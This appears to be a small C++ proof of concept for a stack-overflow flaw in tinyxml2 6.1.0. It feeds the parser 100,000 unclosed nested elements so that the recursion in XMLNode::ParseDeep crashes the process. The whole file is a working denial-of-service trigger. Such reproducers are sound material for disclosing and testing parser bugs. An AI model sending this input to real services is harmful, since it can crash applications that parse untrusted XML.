// SPDX-License-Identifier: MIT
// Parses a document of 100,000 nested elements, left open ("<a><a><a>..."), as an attacker would
// send it: tinyxml2 6.1.0 descends one call of XMLNode::ParseDeep per level and overflows the
// stack long before it reaches the end of the input (300 KB, within a dump's default cap).
#include <tinyxml2.h>

#include <cstdio>
#include <string>

int main() {
  constexpr int kDepth = 100000;
  std::string xml;
  for (int i = 0; i < kDepth; ++i) xml += "<a>";  // unclosed: the parser recurses before it finds out
  tinyxml2::XMLDocument document;
  const tinyxml2::XMLError error = document.Parse(xml.c_str(), xml.size());
  std::printf("parsed: error %d\n", static_cast<int>(error));
  return 0;
}
